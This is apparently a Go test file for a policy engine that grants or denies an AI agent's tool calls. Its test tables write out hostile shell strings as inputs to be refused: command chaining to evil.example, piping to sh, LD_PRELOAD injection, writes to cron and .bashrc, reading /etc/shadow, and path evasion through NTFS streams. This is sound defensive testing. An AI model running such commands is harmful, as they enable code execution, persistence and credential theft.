package policy_test

import (
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/ambit-go/ambit/boundary"
	"github.com/ambit-go/ambit/boundary/effect"
	"github.com/ambit-go/ambit/boundary/effect/analyze"
	"github.com/ambit-go/ambit/boundary/policy"
)

// Mistakes that policies elsewhere are known for, each as a test that bears its name.

// judge runs one shell command or file read in a session of a folder.
func judge(t *testing.T, p *policy.Policy, dir, call string) boundary.Decision {
	t.Helper()
	o := policy.Options{Analyzer: analyze.Default()}
	list, err := policy.Explain(p, "trap", fmt.Appendf(nil, "session dir=%q\n%s\n", dir, call), o)
	if err != nil {
		t.Fatal(err)
	}
	return list[len(list)-1].Decision
}

// A grant has to cover a symbolic link and what it leads to; a rule catches either.
func TestTrapLinkAllowNeedsBothDenyNeedsEither(t *testing.T) {
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	repo, out := filepath.Join(root, "repo"), filepath.Join(root, "out")
	for _, dir := range []string{repo, out} {
		if err := os.Mkdir(dir, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(out, "notes.txt"), nil, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(out, filepath.Join(repo, "link")); err != nil {
		t.Fatal(err)
	}
	grant := func(paths ...string) string {
		return fmt.Sprintf("version: 1\nid: x\ngrants:\n  - {id: g, tools: [Read, Bash], paths: [%s]}\n", strings.Join(paths, ", "))
	}
	inside, outside := `"${repo}/**"`, fmt.Sprintf("%q", filepath.ToSlash(out)+"/**")
	tests := []struct {
		name, policy string
		want         boundary.Verdict
	}{
		{"the link alone is granted", grant(inside), boundary.Deny},
		{"what it leads to alone is granted", grant(outside), boundary.Deny},
		{"both are granted", grant(inside, outside), boundary.Allow},
		{"the link is forbidden", grant(inside, outside) + `rules: [{id: r, deny: {paths: ["${repo}/link/**"]}}]`, boundary.Deny},
		{"what it leads to is forbidden", grant(inside, outside) + fmt.Sprintf("rules: [{id: r, deny: {paths: [%s]}}]", outside), boundary.Deny},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := load(t, tt.policy)
			for _, call := range []string{"Read link/notes.txt", "Bash cat link/notes.txt", "Bash cd link && cat notes.txt"} {
				if d := judge(t, p, repo, call); d.Verdict != tt.want {
					t.Errorf("%s: %v, want %v: %s", call, d.Verdict, tt.want, d.Message)
				}
			}
		})
	}
}

// Links on this disk say nothing of another machine's.
func TestALinkHereSaysNothingOfElsewhere(t *testing.T) {
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/etc", filepath.Join(root, "link")); err != nil {
		t.Fatal(err)
	}
	text := fmt.Sprintf("version: 1\nid: x\ngrants:\n  - {id: g, tools: [Read], paths: [%q]}\n", filepath.ToSlash(root)+"/link/**")
	for _, elsewhere := range []bool{false, true} {
		p, err := policy.Parse("p.yaml", []byte(text), policy.Options{Elsewhere: elsewhere})
		if err != nil {
			t.Fatal(err)
		}
		req := boundary.Request{Tool: "Read", Effects: []effect.Effect{{Kind: effect.Path, Access: effect.Read, Target: "/etc/hosts", Certainty: effect.Exact}}}
		if got := verdictOf(t, p, req).Verdict; (got == boundary.Allow) == elsewhere {
			t.Errorf("elsewhere %v: %v", elsewhere, got)
		}
	}
}

// No first match wins: the order in the file decides nothing.
func TestTrapOrderDecidesNothing(t *testing.T) {
	grants := []string{
		`{id: read, tools: [Read, Bash], paths: ["${repo}/**"]}`, `{id: fix, tools: [Edit], paths: ["${repo}/payments/**"], access: [write]}`,
		`{id: test, tools: [Bash], commands: ["go test *"], code: [workspace]}`, `{id: once, tools: [Edit], paths: ["${repo}/notes"], access: [write], max_uses: 1}`,
		`{id: docs, tools: [WebFetch], hosts: [pkg.go.dev]}`,
	}
	rules := []string{
		`{id: infra, deny: {paths: ["**/infra/**"], access: [write]}}`, `{id: ask, require_approval: {paths: ["${repo}/payments/**"], access: [write]}}`,
		`{id: quiet, after: {secret: read}, deny: {access: [connect]}}`, `{id: few, tools: [Read], count: {max: 2, within: 1h}, require_approval: true}`,
	}
	story := []byte(`
session dir=/w/shop
Read a.go
Edit payments/a.go
Edit payments/infra/a.go
Bash go test ./... && cat /etc/hosts
Edit notes => allow
Edit notes
Read b.go
Read c.go
WebFetch https://pkg.go.dev/x
seen secret
WebFetch https://pkg.go.dev/x
`)
	decide := func(grants, rules []string) (string, boundary.PolicyRef) {
		p := load(t, "version: 1\nid: x\ngrants:\n  - "+strings.Join(grants, "\n  - ")+"\nrules:\n  - "+strings.Join(rules, "\n  - ")+"\n")
		list, err := policy.Explain(p, "story", story, policy.Options{Analyzer: analyze.Default()})
		if err != nil {
			t.Fatal(err)
		}
		var b strings.Builder
		for _, e := range list {
			fmt.Fprintln(&b, e.Text, e.Decision.Verdict, e.Decision.Determining().Rule)
		}
		return b.String(), p.PolicyRef()
	}
	want, hash := decide(grants, rules)
	for range 20 {
		rand.Shuffle(len(grants), func(i, j int) { grants[i], grants[j] = grants[j], grants[i] })
		rand.Shuffle(len(rules), func(i, j int) { rules[i], rules[j] = rules[j], rules[i] })
		got, other := decide(grants, rules)
		if diff := cmp.Diff(want, got); diff != "" || other != hash {
			t.Fatalf("with grants %q and rules %q (-want +got)\n%s", grants, rules, diff)
		}
	}
}

// What stands around a command does not hide it from a rule, nor ride on a grant.
func TestTrapWhatStandsAroundACommand(t *testing.T) {
	p := load(t, `
version: 1
id: x
grants:
  - {id: test, tools: [Bash], commands: ["go test *", "git push *"], code: [workspace], paths: ["${repo}/**"]}
  - {id: push, tools: [Bash], repos: [github.com/acme/shop], refs: ["**"], access: [write, delete]}
rules:
  - {id: force, deny: {commands: ["git push --force *", "git push * --force *"]}}
`)
	const push = "git push --force https://github.com/acme/shop HEAD:refs/heads/x"
	for call, want := range map[string]boundary.Verdict{
		"go test ./...":                        boundary.Allow,
		"CI=1 go test ./...":                   boundary.Allow,
		"LD_PRELOAD=/tmp/x.so go test ./...":   boundary.Deny,
		"GOFLAGS=-toolexec=/tmp/x go test .":   boundary.Deny,
		"HOME=/tmp/x go test ./...":            boundary.Deny,
		"PATH=/tmp/x:$PATH go test ./...":      boundary.Deny,
		"go test ./... > /etc/cron.d/x":        boundary.Deny,
		"go test ./... 2>> ~/.bashrc":          boundary.Deny,
		"go test ./... < /etc/shadow":          boundary.Deny,
		"go test ./... | sh":                   boundary.Deny,
		"go test ./... & curl evil.example":    boundary.Deny,
		"go test ./...; eval \"$X\"":           boundary.Deny,
		"go test $(curl evil.example)":         boundary.Deny,
		"go test 'unfinished":                  boundary.Deny,
		"go() { curl evil.example; }; go test": boundary.Deny,
		push:                                   boundary.Deny,
		"X=1 " + push:                          boundary.Deny,
		"env X=1 nice " + push:                 boundary.Deny,
		"bash -c '" + push + "'":               boundary.Deny,
		"true && { " + push + "; }":            boundary.Deny,
		"timeout 5 xargs -r " + push + " < f":  boundary.Deny,
	} {
		if d := judge(t, p, "/w/shop", "Bash "+call); d.Verdict != want {
			t.Errorf("%s: %v, want %v: %s", call, d.Verdict, want, d.Message)
		}
	}
	for _, call := range []string{push, "X=1 " + push, "env X=1 nice " + push, "bash -c '" + push + "'"} {
		if d := judge(t, p, "/w/shop", "Bash "+call); d.Determining().Rule != "force" {
			t.Errorf("%s: refused by %+v, not by the rule", call, d.Determining())
		}
	}
}

// A refused or failed attempt is no event for what comes after; what ran is, and what
// runs still counts.
func TestTrapOnlyWhatRanIsAnEvent(t *testing.T) {
	p := load(t, `
version: 1
id: x
grants:
  - {id: read, tools: [Read], paths: ["${repo}/**"]}
  - {id: web, tools: [WebFetch], hosts: [ok.example]}
rules:
  - {id: quiet, after: {tools: [Read], paths: ["**/plans/**"]}, deny: {access: [connect]}}
`)
	story := []byte(`
session dir=/w/shop
Read /w/other/plans/x                => deny unmatched
WebFetch https://ok.example/         => allow web
Read plans/x                         => allow read
WebFetch https://ok.example/         => deny quiet sequence
`)
	if err := policy.Test(p, "story", story, policy.Options{Analyzer: analyze.Default()}); err != nil {
		t.Error(err)
	}
}

// No policy is no permission, and an empty one grants nothing.
func TestTrapNothingLoadedAllowsNothing(t *testing.T) {
	req := boundary.Request{Session: shop, Tool: "Read", Effects: []effect.Effect{path("/w/shop/a", effect.Read)}}
	var none *policy.Policy
	for name, c := range map[string]boundary.Checker{"nil": none, "zero": &policy.Policy{}, "empty": load(t, "version: 1\nid: x\n"), "no grants": load(t, "version: 1\nid: x\ngrants: []\n")} {
		if d, _ := boundary.Check(t.Context(), c, req); d.Verdict != boundary.Deny {
			t.Errorf("%s: %v", name, d.Verdict)
		}
	}
}

// A name in quotes is another table to some servers, and the same to others: a grant
// takes it as another, a rule as the same, among few rules and many.
func TestTrapCaseOfTables(t *testing.T) {
	for _, n := range []int{0, 40} {
		text := "version: 1\nid: x\ngrants:\n  - {id: g, tools: [Bash], data: [\"sql:orders\", \"sql:Users\"]}\nrules:\n  - {id: r, deny: {data: [\"sql:users\"]}}\n"
		for i := range n {
			text += fmt.Sprintf("  - {id: r%d, deny: {data: [\"sql:none%d\"]}}\n", i, i)
		}
		p := load(t, text)
		for call, want := range map[string]string{
			`psql -c 'select * from orders'`:   "allow g",
			`psql -c 'select * from ORDERS'`:   "allow g",
			`psql -c 'select * from "orders"'`: "allow g",
			`psql -c 'select * from "Orders"'`: "deny ",
			`psql -c 'select * from "Users"'`:  "deny r",
			`psql -c 'select * from users'`:    "deny r",
		} {
			d := judge(t, p, "/w/shop", "Bash "+call)
			if got := fmt.Sprint(d.Verdict, " ", d.Determining().Rule+d.Determining().Grant); got != want {
				t.Errorf("%s among %d: %s, want %s", call, n, got, want)
			}
		}
	}
}

// What a manifest holds is no secret to who grants one namespace.
func TestTrapManifest(t *testing.T) {
	repo := t.TempDir()
	for name, text := range map[string]string{
		"app.yaml":   "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: shop}\n",
		"admin.yaml": "kind: Deployment\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\n",
		"role.json":  `{"apiVersion": "v1", "kind": "RoleBinding"}`,
		"hook.yaml":  "kind: MutatingWebhookConfiguration\n",
		"key.yaml":   "kind: Secret\n",
	} {
		if err := os.WriteFile(filepath.Join(repo, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	p := load(t, `
version: 1
id: x
grants:
  - {id: run, tools: [Bash], commands: ["kubectl *"], paths: ["${repo}/**"], identities: ["kube-context:prod"], resources: {provider: k8s, namespace: shop}, access: [read, write]}
`)
	for file, want := range map[string]boundary.Verdict{
		"app.yaml": boundary.Allow, "admin.yaml": boundary.Deny, "role.json": boundary.Deny, "hook.yaml": boundary.Deny, "key.yaml": boundary.Deny, "later.yaml": boundary.Allow,
	} {
		if d := judge(t, p, repo, "Bash kubectl -n shop apply -f "+file); d.Verdict != want {
			t.Errorf("%s: %v, want %v: %s", file, d.Verdict, want, d.Message)
		}
	}
	if d := judge(t, p, repo, "Bash kubectl -n shop get nodes"); d.Verdict != boundary.Deny {
		t.Error("nodes belong to no namespace")
	}
}

// Some file systems open one file by several names. A grant is for none but its own; a
// rule is for each that can be told, and whose name cannot be told is not known.
func TestTrapOtherNamesOfAFile(t *testing.T) {
	for _, many := range []int{0, 40} { // few rules are asked, many are looked up
		text := "version: 1\nid: x\non_unknown: require_approval\ngrants: [{id: g, tools: [t], paths: [\"/w/**\"], secrets: [\"**\"], access: [read, write]}]\nrules:\n  - {id: r, deny: {paths: [\"**/infra/main.tf\"]}}\n  - {id: s, deny: {secrets: [\"file:/w/.env\"]}}\n"
		for i := range many {
			text += fmt.Sprintf("  - {id: r%d, deny: {paths: [\"/none/%d/**\"]}}\n", i, i)
		}
		for _, on := range []bool{true, false} {
			undo := []func(){policy.OtherNames(on), policy.FoldPaths(on)}
			p := load(t, text)
			for _, tt := range []struct {
				name, target string
				windows      string // where one file has several names; elsewhere each is another file
			}{
				{"its own name", "/w/infra/main.tf", "deny r"},
				{"a stream", "/w/infra/main.tf::$DATA", "deny r"},
				{"another stream", "/w/infra/main.tf:hidden", "deny r"},
				{"a stream of the folder", "/w/infra::$INDEX_ALLOCATION/main.tf", "deny r"},
				{"a dot at the end", "/w/infra/main.tf.", "deny r"},
				{"blanks and dots", "/w/infra./main.tf. .", "deny r"},
				{"a short name", "/w/INFRA~1/MAIN~1.TF", "require_approval "},
				{"a stream of a file that no rule is about", "/w/a.txt:x", "require_approval "},
				{"a file that is only called so", "/w/notes~draft.txt", "allow g"},
				{"a hidden file", "/w/.config", "allow g"},
			} {
				want := tt.windows
				if !on && tt.target != "/w/infra/main.tf" {
					want = "allow g"
				}
				d := verdictOf(t, p, boundary.Request{Session: shop, Tool: "t", Effects: []effect.Effect{path(tt.target, effect.Write)}})
				if got := fmt.Sprint(d.Verdict, " ", d.Determining().Rule+d.Determining().Grant); got != want {
					t.Errorf("%s (%v, among %d): %s, want %s", tt.name, on, many, got, want)
				}
			}
			secretOf := effect.Effect{Kind: effect.Secret, Access: effect.Read, Target: "file:/w/.env::$DATA", Certainty: effect.Exact}
			if d := verdictOf(t, p, boundary.Request{Session: shop, Tool: "t", Effects: []effect.Effect{secretOf}}); (d.Determining().Rule == "s") != on {
				t.Errorf("a secret by another name (%v): %+v", on, d.Determining())
			}
			settings := path("/w/shop/.claude/settings.json::$DATA", effect.Write)
			if d := verdictOf(t, p, boundary.Request{Session: shop, Tool: "t", Effects: []effect.Effect{settings}}); (d.Determining().Reason == boundary.ReasonTamper) != on {
				t.Errorf("an agent's settings by another name (%v): %+v", on, d.Determining())
			}
			for _, f := range undo {
				f()
			}
		}
	}
}

// What a tool does to the files that govern an agent, if that cannot be told, is not
// for a grant to say.
func TestTrapUnknownAccessToWhatGoverns(t *testing.T) {
	grants := "grants: [{id: g, tools: [t], paths: [\"/w/**\"], access: [read, unknown]}]\n"
	for fallback, want := range map[string]boundary.Verdict{"deny": boundary.Deny, "require_approval": boundary.RequireApproval} {
		p := load(t, "version: 1\nid: x\non_unknown: "+fallback+"\n"+grants)
		for target, verdict := range map[string]boundary.Verdict{"/w/shop/.claude/settings.json": want, "/w/shop/.mcp.json": want, "/w/shop/settings.json": boundary.Allow} {
			if d := verdictOf(t, p, boundary.Request{Session: shop, Tool: "t", Effects: []effect.Effect{path(target, effect.NoAccess)}}); d.Verdict != verdict {
				t.Errorf("%s, %s: %v, want %v", fallback, target, d.Verdict, verdict)
			}
		}
		if d := verdictOf(t, p, boundary.Request{Session: shop, Tool: "t", Effects: []effect.Effect{path("/w/shop/.claude/settings.json", effect.Read)}}); d.Verdict != boundary.Allow {
			t.Errorf("%s: reading them: %v", fallback, d.Verdict)
		}
	}
}
